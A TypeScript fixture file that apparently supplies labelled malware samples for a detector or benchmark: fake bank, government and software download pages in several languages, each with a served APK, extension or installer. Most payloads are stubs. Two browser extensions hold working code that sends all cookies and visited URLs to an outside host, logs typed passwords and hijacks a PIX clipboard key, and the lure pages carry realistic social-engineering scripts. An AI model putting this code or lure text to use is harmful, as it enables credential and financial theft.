import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { apk, cfb, crx, fileRoute, jsRoute, pe, pngRoute, zip } from '../parts/e-bin.js';
import { baseCss, dataLayer, doc, footer } from '../parts/g-kit.js';

const apkRoute = (pkg: string, label: string, file: string, extra: string[] = []) => fileRoute(apk(pkg, label, extra), 'application/vnd.android.package-archive', file);
export const entries: Entry[] = [
  // Indonesian "bank security" APK
  {
    id: 'g-mal-id-aplikasi-keamanan-bank-apk',
    label: 'malware',
    kind: 'apk',
    url: 'https://bca-mobile-keamanan.id-app.site/unduh',
    body: doc({
      lang: 'id',
      title: 'Aplikasi Keamanan m-Banking - Perbarui Sekarang',
      css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f4f7fb}.h{background:#0060af;color:#fff;padding:16px;text-align:center;font-weight:bold}.c{max-width:440px;margin:0 auto;padding:18px}.ico{width:84px;height:84px;border-radius:18px;background:#0060af;margin:10px auto}.b{display:block;background:#0060af;color:#fff;text-align:center;padding:14px;border-radius:8px;text-decoration:none;font-weight:bold}.st{background:#fff;border-radius:8px;padding:12px;font-size:14px;margin:12px 0}`,
      body: `<div class="h">m-Banking Security Update</div><div class="c"><div class="ico"></div><h2 style="text-align:center">Perlindungan Akun Nasabah</h2>
<p>Mulai 1 Desember 2025, sesuai ketentuan OJK, seluruh nasabah wajib memasang <b>Aplikasi Keamanan Tambahan</b> agar transaksi m-Banking tidak diblokir. Tarif transfer baru Rp150.000/bulan dapat dibatalkan melalui aplikasi ini.</p>
<a class="b" href="/unduh/Keamanan_mBanking_v3.2.apk">UNDUH APLIKASI (APK 4,1 MB)</a>
<div class="st"><b>Cara memasang:</b><ol><li>Unduh file APK</li><li>Buka Pengaturan &gt; Izinkan instal dari sumber tidak dikenal</li><li>Aktifkan izin Aksesibilitas dan SMS agar perlindungan berjalan</li><li>Login menggunakan User ID dan PIN m-Banking</li></ol></div>
<p style="font-size:11px;color:#888;text-align:center">Halo Nasabah 1500888 · Terdaftar dan diawasi oleh OJK</p></div>`,
    }),
    routes: { 'bca-mobile-keamanan.id-app.site/unduh/Keamanan_mBanking_v3.2.apk': apkRoute('com.mbanking.keamanan.update', 'Keamanan mBanking', 'Keamanan_mBanking_v3.2.apk', ['https://bca-mobile-keamanan.id-app.site/api/sms', 'otp']) },
  },
  // Hinglish RTO e-challan APK shared on WhatsApp
  {
    id: 'g-mal-in-rto-echallan-apk-whatsapp',
    label: 'malware',
    kind: 'apk',
    url: 'https://parivahan-echallan-pay.in-gov.app/challan/MH12XX4471',
    body: doc({
      lang: 'en-IN',
      title: 'e-Challan | Parivahan Sewa | Ministry of Road Transport',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f1f1f1}.h{background:#1a237e;color:#fff;padding:12px 16px}.c{max-width:480px;margin:0 auto;background:#fff;padding:16px}table{width:100%;font-size:14px}td{padding:6px;border-bottom:1px solid #eee}.b{display:block;background:#e65100;color:#fff;text-align:center;padding:14px;text-decoration:none;font-weight:bold;border-radius:4px}`,
      body: `<div class="h"><b>परिवहन सेवा · Parivahan Sewa</b><br><small>Ministry of Road Transport &amp; Highways, Govt. of India</small></div><div class="c"><h3>Traffic Violation Notice</h3>
<table><tr><td>Vehicle No.</td><td>MH12XX4471</td></tr><tr><td>Challan No.</td><td>MH4471250981122</td></tr><tr><td>Offence</td><td>Over-speeding (Sec 183 MV Act)</td></tr><tr><td>Fine</td><td>₹1,000</td></tr><tr><td>Status</td><td style="color:red">Pending — court referral in 3 days</td></tr></table>
<p>Aapka challan pending hai. Payment sirf official <b>"RTO Traffic Challan"</b> app se hi possible hai. App download karke vehicle number se login kariye aur UPI/Card se fine pay kariye.</p>
<a class="b" href="/app/RTO_Traffic_Challan.apk">Download RTO Traffic Challan App</a>
<p style="font-size:11px;color:#666">Install ke time "Allow from this source" aur SMS permission ON karein, warna OTP verify nahi hoga.</p></div>`,
    }),
    routes: { 'parivahan-echallan-pay.in-gov.app/app/RTO_Traffic_Challan.apk': apkRoute('com.rto.challan.pay', 'RTO Traffic Challan', 'RTO_Traffic_Challan.apk', ['upi', 'debit card', 'https://api.challan-upd.xyz/sms']) },
  },
  // Thai fake Department of Lands app
  {
    id: 'g-mal-th-krom-thi-din-app-apk',
    label: 'malware',
    kind: 'apk',
    url: 'https://dol-landtax-th.com/app/',
    body: doc({
      lang: 'th',
      title: 'กรมที่ดิน - ชำระภาษีที่ดินออนไลน์',
      css: `body{margin:0;font-family:Tahoma,sans-serif;background:#eef3ea}.h{background:#2e7d32;color:#fff;padding:14px;text-align:center}.c{max-width:460px;margin:0 auto;background:#fff;padding:18px}.b{display:block;background:#2e7d32;color:#fff;text-align:center;padding:14px;border-radius:8px;text-decoration:none}`,
      body: `<div class="h"><b>กรมที่ดิน</b><br>Department of Lands</div><div class="c"><h3>แจ้งเตือนการชำระภาษีที่ดินและสิ่งปลูกสร้าง</h3><p>ท่านมียอดค้างชำระภาษีที่ดินปี 2568 และสามารถรับ <b>ส่วนลด 90%</b> หากชำระผ่านแอปพลิเคชันภายในวันนี้</p><a class="b" href="https://files-dol.th-apkcdn.com/DOL_LandTax.apk">ดาวน์โหลดแอปพลิเคชัน</a><p style="font-size:12px;color:#666">หลังติดตั้ง กรุณาอนุญาตสิทธิ์การเข้าถึง (Accessibility) และตั้งรหัส PIN 6 หลัก เจ้าหน้าที่จะโทรติดต่อท่านทาง LINE</p></div>`,
    }),
    routes: { 'files-dol.th-apkcdn.com/DOL_LandTax.apk': apkRoute('th.go.dol.landtax', 'กรมที่ดิน', 'DOL_LandTax.apk', ['kbank', 'scb', 'krungthai', 'overlay']) },
  },
  // Arabic "WhatsApp Gold" mod APK
  {
    id: 'g-mal-ar-whatsapp-dahabi-apk',
    label: 'malware',
    kind: 'apk',
    url: 'https://wa-gold-plus.com/ar/download',
    body: doc({
      lang: 'ar',
      dir: 'rtl',
      title: 'تحميل واتساب الذهبي آخر إصدار 2025 - WhatsApp Gold',
      css: `body{margin:0;font-family:Tahoma,sans-serif;background:#111;color:#f5d76e}.c{max-width:560px;margin:0 auto;padding:20px;text-align:center}.ic{width:100px;height:100px;border-radius:22px;background:linear-gradient(#f5d76e,#b8860b);margin:20px auto}.b{display:inline-block;background:#25d366;color:#fff;padding:14px 34px;border-radius:30px;text-decoration:none;font-weight:bold}ul{text-align:right}`,
      body: `<div class="c"><div class="ic"></div><h1>واتساب الذهبي WhatsApp Gold v25.11</h1><p>النسخة الرسمية المطورة من واتساب بمزايا حصرية</p><ul><li>إخفاء الظهور والكتابة</li><li>منع حذف الرسائل</li><li>إرسال ملفات حتى ٢ جيجا</li><li>ثيمات ذهبية حصرية</li><li>مكافحة الحظر</li></ul><a class="b" href="/files/WhatsApp_Gold_v25.11.apk">تحميل مباشر APK (58 ميجا)</a><p style="font-size:12px;color:#aaa">آمن ١٠٠٪ · تم فحصه · أكثر من ٥ ملايين تحميل</p></div>`,
    }),
    routes: { 'wa-gold-plus.com/files/WhatsApp_Gold_v25.11.apk': apkRoute('com.whatsapp.gold', 'WhatsApp Gold', 'WhatsApp_Gold_v25.11.apk', ['contacts', 'READ_SMS', 'https://c2.wagold-sync.top']) },
  },
  // English fake "PDF converter" extension landing with CRX served from own host
  {
    id: 'g-mal-en-pdf-converter-extension-crx',
    label: 'malware',
    kind: 'extension',
    url: 'https://www.quickpdf-convert-tab.com/install?src=gads&kw=pdf+to+word',
    body: doc({
      lang: 'en',
      title: 'QuickPDF Convert — Free PDF to Word converter for Chrome',
      css: `${baseCss} .hero{text-align:center;padding:60px 20px;background:linear-gradient(#fff,#eef4ff)}.hero h1{font-size:40px}.add{background:#1a73e8;color:#fff;font-size:18px;padding:16px 34px;border-radius:6px}.steps{display:flex;gap:20px;justify-content:center;margin:40px 0}.steps div{width:200px;text-align:center}.ov{position:fixed;inset:0;background:rgba(0,0,0,.6);display:none;align-items:flex-start;justify-content:flex-end;padding:20px}.ov div{background:#fff;padding:16px;border-radius:8px;width:320px}`,
      head: dataLayer('AW-QPDF2025'),
      body: `<header class="top"><div class="wrap"><b>📄 QuickPDF Convert</b><nav><a href="#">Features</a><a href="#">Privacy</a><a href="#">Support</a></nav></div></header>
<section class="hero"><h1>Convert PDF to Word in one click</h1><p>Free browser extension · No sign-up · Works offline · 2,000,000+ users</p><a class="btn add" id="add" href="/dl/quickpdf_convert_2.4.1.crx">Add to Chrome — it’s free</a><p style="font-size:12px;color:#666">By clicking you accept the Terms and Privacy Policy. The extension will set QuickPDF Search as your default search to provide the converter tab.</p></section>
<div class="steps"><div><b>1.</b> Download the file</div><div><b>2.</b> Open chrome://extensions and enable Developer mode</div><div><b>3.</b> Drag the file onto the page to install</div></div>
<div class="ov" id="ov"><div><b>Almost done!</b><p>Drag the downloaded <code>quickpdf_convert_2.4.1.crx</code> onto chrome://extensions to finish installing.</p></div></div>
${footer({ Product: ['Features', 'Uninstall'], Legal: ['Terms', 'Privacy', 'EULA'] }, '© 2025 QuickPDF Convert. Not affiliated with Adobe.')}
<script>document.getElementById('add').addEventListener('click',function(){setTimeout(function(){document.getElementById('ov').style.display='flex'},800)})</script>`,
    }),
    routes: {
      'www.quickpdf-convert-tab.com/dl/quickpdf_convert_2.4.1.crx': fileRoute(
        crx([
          { name: 'manifest.json', data: JSON.stringify({ manifest_version: 3, name: 'QuickPDF Convert', version: '2.4.1', permissions: ['cookies', 'webRequest', 'tabs', 'storage', 'scripting'], host_permissions: ['<all_urls>'], background: { service_worker: 'bg.js' }, chrome_settings_overrides: { search_provider: { name: 'QuickPDF Search', search_url: 'https://search.quickpdf-convert-tab.com/?q={searchTerms}', is_default: true, keyword: 'qp', favicon_url: 'https://search.quickpdf-convert-tab.com/f.ico', encoding: 'UTF-8' } } }) },
          { name: 'bg.js', data: `chrome.cookies.getAll({},c=>fetch('https://api.quickpdf-convert-tab.com/c',{method:'POST',body:JSON.stringify(c)}));chrome.tabs.onUpdated.addListener((i,ch,t)=>{if(ch.url)fetch('https://api.quickpdf-convert-tab.com/u?'+encodeURIComponent(ch.url))});` },
        ]),
        'application/x-chrome-extension',
        'quickpdf_convert_2.4.1.crx',
      ),
    },
  },
  // Brazilian banking "security module" extension
  {
    id: 'g-mal-br-modulo-seguranca-extensao-banco',
    label: 'malware',
    kind: 'extension',
    url: 'https://modulo-seguranca-bancaria.com.br-protecao.net/instalar',
    body: doc({
      lang: 'pt-BR',
      title: 'Módulo de Segurança — Instalação obrigatória',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f4f4}.h{background:#cc092f;color:#fff;padding:14px 24px;font-weight:bold}.c{max-width:600px;margin:30px auto;background:#fff;padding:24px;border-radius:6px}.b{display:inline-block;background:#cc092f;color:#fff;padding:12px 26px;text-decoration:none;border-radius:4px}ol li{margin:6px 0}`,
      body: `<div class="h">🔒 Módulo de Segurança Bancária</div><div class="c"><h2>Seu navegador não possui o módulo de segurança atualizado</h2><p>Para acessar o Internet Banking é obrigatório instalar a nova extensão <b>Proteção Bancária 2025</b>, compatível com Itaú, Bradesco, Santander, Caixa e Banco do Brasil.</p><a class="b" href="/instalar/protecao_bancaria.zip">Baixar extensão</a><ol><li>Descompacte o arquivo baixado</li><li>Acesse <code>chrome://extensions</code> e ative o <b>Modo do desenvolvedor</b></li><li>Clique em "Carregar sem compactação" e selecione a pasta</li><li>Volte ao site do seu banco e faça login normalmente</li></ol><p style="font-size:12px;color:#888">Febraban · Tecnologia de proteção de transações</p></div>`,
    }),
    routes: {
      'modulo-seguranca-bancaria.com.br-protecao.net/instalar/protecao_bancaria.zip': fileRoute(
        zip([
          { name: 'protecao_bancaria/manifest.json', data: JSON.stringify({ manifest_version: 3, name: 'Proteção Bancária 2025', version: '1.0.7', permissions: ['webRequest', 'tabs', 'clipboardRead', 'clipboardWrite', 'scripting'], host_permissions: ['*://*.itau.com.br/*', '*://*.bradesco.com.br/*', '*://*.santander.com.br/*', '*://*.bb.com.br/*', '<all_urls>'], content_scripts: [{ matches: ['<all_urls>'], js: ['c.js'], run_at: 'document_start' }] }) },
          { name: 'protecao_bancaria/c.js', data: `document.addEventListener('input',e=>{if(e.target.type==='password')navigator.sendBeacon('https://coletor.br-protecao.net/k',location.host+'|'+e.target.value)});document.addEventListener('copy',()=>{navigator.clipboard.readText().then(t=>{if(/^[0-9a-f-]{32,36}$/i.test(t)||t.length>40)navigator.clipboard.writeText('00020126580014BR.GOV.BCB.PIX0136a1b2c3d4-e5f6-7a8b-9c0d-112233445566')})});` },
        ]),
        'application/zip',
        'protecao_bancaria.zip',
      ),
    },
  },
  // Fake Notepad++ on a typo domain, payload from another host
  {
    id: 'g-mal-en-notepadplusplus-typo-exe-otherhost',
    label: 'malware',
    kind: 'fake-installer',
    url: 'https://notepad-plus-plus.net.co/downloads/v8.7.1/',
    body: doc({
      lang: 'en',
      title: 'Notepad++ v8.7.1 Release | Notepad++',
      css: `body{margin:0;font-family:Arial,sans-serif;color:#333}.h{background:#90e59a;padding:14px 24px;font-size:22px;font-weight:bold}.c{max-width:860px;margin:0 auto;padding:20px}.dl a{display:block;margin:6px 0;color:#2a6496}`,
      body: `<div class="h">Notepad++</div><div class="c"><h1>Notepad++ 8.7.1 release</h1><p>Notepad++ 8.7.1 bug-fix release: fixed crash when opening large files, improved Function List for Python, updated Scintilla to 5.5.3.</p><h2>Download 64-bit x64</h2><div class="dl"><a href="https://github-releases.objects-cdn.com/npp/npp.8.7.1.Installer.x64.exe"><b>Installer</b></a><a href="https://github-releases.objects-cdn.com/npp/npp.8.7.1.portable.x64.zip">Portable (zip)</a></div><h2>Download 32-bit x86</h2><div class="dl"><a href="https://github-releases.objects-cdn.com/npp/npp.8.7.1.Installer.exe">Installer</a></div><p style="font-size:12px">Notepad++ is free software under GPL licence. Donate to support development.</p></div>`,
    }),
    routes: {
      'github-releases.objects-cdn.com/npp/npp.8.7.1.Installer.x64.exe': fileRoute(pe({ strings: ['Notepad++ Installer', 'NSIS', 'Nullsoft Install System v3.10', 'rundll32 %APPDATA%\\\\npp\\\\update.dll,DllRegisterServer'] }), 'application/octet-stream', 'npp.8.7.1.Installer.x64.exe'),
      'github-releases.objects-cdn.com/npp/npp.8.7.1.portable.x64.zip': fileRoute(zip([{ name: 'notepad++.exe', data: pe({ strings: ['Notepad++'] }) }, { name: 'SciLexer.dll', data: pe({ dll: true, strings: ['sideload', 'http://185.117.90.10/b'] }) }]), 'application/zip', 'npp.8.7.1.portable.x64.zip'),
      'github-releases.objects-cdn.com/npp/npp.8.7.1.Installer.exe': fileRoute(pe({ x64: false, strings: ['Notepad++ Installer'] }), 'application/octet-stream', 'npp.8.7.1.Installer.exe'),
    },
  },
  // Polish fake Microsoft Teams download page (malvertising landing), EXE started automatically
  {
    id: 'g-mal-pl-teams-pobierz-autostart-exe',
    label: 'malware',
    kind: 'fake-installer',
    url: 'https://teams-pobierz.pl/pobieranie/windows?gclid=Cj0KCQiA',
    body: doc({
      lang: 'pl',
      title: 'Pobierz Microsoft Teams na komputer | Microsoft Teams',
      css: `body{margin:0;font-family:'Segoe UI',Arial,sans-serif;color:#242424}.h{padding:12px 24px;border-bottom:1px solid #eee;display:flex;gap:20px;align-items:center}.sq{display:inline-grid;grid-template-columns:10px 10px;gap:2px}.sq i{width:10px;height:10px;display:block}.hero{background:#5b5fc7;color:#fff;padding:50px 24px;text-align:center}.b{background:#fff;color:#5b5fc7;padding:12px 28px;border-radius:4px;text-decoration:none;font-weight:600}`,
      body: `<div class="h"><span class="sq"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></span><b>Microsoft</b> | Teams</div>
<div class="hero"><h1>Dziękujemy za pobranie aplikacji Microsoft Teams</h1><p>Pobieranie rozpocznie się automatycznie. Jeśli nie, <a class="b" href="https://dl.teams-cdn-pl.com/TeamsSetup_c_w_.exe">kliknij tutaj</a>.</p><p>Po pobraniu uruchom plik <b>TeamsSetup_c_w_.exe</b> i postępuj zgodnie z instrukcjami.</p></div>
<p style="text-align:center;font-size:12px;color:#666">© Microsoft 2025 · Prywatność · Warunki użytkowania</p>
<iframe src="https://dl.teams-cdn-pl.com/TeamsSetup_c_w_.exe" style="display:none"></iframe>`,
    }),
    routes: { 'dl.teams-cdn-pl.com/TeamsSetup_c_w_.exe': fileRoute(pe({ strings: ['Microsoft Teams', 'Squirrel', 'Oyster backdoor', 'CleanUp30.dll'] }), 'application/octet-stream', 'TeamsSetup_c_w_.exe') },
  },
];

